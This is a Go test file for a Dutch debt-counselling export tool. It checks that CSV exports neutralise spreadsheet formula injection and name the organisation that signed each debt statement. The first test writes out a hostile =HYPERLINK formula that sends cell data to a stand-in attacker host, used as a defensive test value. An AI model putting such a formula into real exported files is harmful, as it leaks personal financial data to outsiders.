package helper

import (
	"strings"
	"testing"
	"time"

	"regie/consent"
	"regie/trust"
	"regie/wallet"
)

// TestExportCSVNeutralisesFormulas: a statement id, reference or creditor
// that a spreadsheet would read as a formula (from a dossier made before
// ids were checked on import) reaches the counsellor's CSV as text.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/"&A2,"Klik")`
	e := Export{Debts: []DebtExport{{
		Debt:   wallet.Debt{Reference: "+31-1", Creditor: "@Creditor", Category: wallet.CategoryFine, Status: wallet.StatusOpen},
		AsOf:   "2026-11-20",
		Source: Provenance{Organisation: "cjib", Name: "-CJIB", Statement: evil, KeyID: "\tk1"},
	}}}
	raw, err := e.CSV()
	if err != nil {
		t.Fatal(err)
	}
	rows := readDutchCSV(t, raw)
	if len(rows) != 2 {
		t.Fatalf("rows = %d", len(rows))
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s = %q starts a formula", CSVHeader[i], cell)
		}
	}
	if !strings.Contains(string(raw), `'=HYPERLINK`) {
		t.Errorf("statement id not kept as text:\n%s", raw)
	}
}

// TestExportNamesTheSigner: each row of the counsellor's export names the
// organisation that signed it, and marks a debt whose creditor text is not
// that organisation.
func TestExportNamesTheSigner(t *testing.T) {
	_, org, err := trust.NewOrganisation("incasso-x", "Incassobureau X", trust.KindCreditor, "", 2026)
	if err != nil {
		t.Fatal(err)
	}
	tl, _ := trust.NewList([]trust.Organisation{org})
	st := func(jti, ref, creditor string) wallet.Statement {
		return wallet.Statement{Claims: wallet.Claims{Issuer: "incasso-x", Subject: "123456782", ID: jti, IssuedAt: 1795140000,
			Type: wallet.TypeDebt, AsOf: "2026-11-20", Debt: &wallet.Debt{Reference: ref, Creditor: creditor,
				Category: wallet.CategoryTax, OriginalCents: 100, OutstandingCents: 100, Status: wallet.StatusBailiff}}}
	}
	sts := []wallet.Statement{st("x1", "BD-1", "Belastingdienst"), st("x2", "X-2", "Incassobureau X B.V.")}
	var series []wallet.Series
	for _, s := range sts {
		series = append(series, wallet.Series{Versions: []wallet.Statement{s}})
	}
	now := time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)
	vd := &consent.VerifiedDossier{Dossier: consent.Dossier{Overview: wallet.Compile(series, now)}, Verified: sts,
		SignedBy: map[[2]string]string{}}
	e := NewExport(vd, tl)
	if len(e.Debts) != 2 {
		t.Fatalf("debts = %d", len(e.Debts))
	}
	for _, d := range e.Debts {
		if d.Source.Name != "Incassobureau X" || d.Source.ReportedByOther != (d.Creditor == "Belastingdienst") {
			t.Errorf("%s: source %+v", d.Creditor, d.Source)
		}
	}
	raw, _ := e.CSV()
	rows := readDutchCSV(t, raw)
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, r := range rows[1:] {
		want := "nee"
		if r[col["Schuldeiser"]] == "Belastingdienst" {
			want = "ja"
		}
		if r[col["Ondertekenaar"]] != "Incassobureau X" || r[col["GemeldDoorAnder"]] != want {
			t.Errorf("csv row %v", r)
		}
	}
}
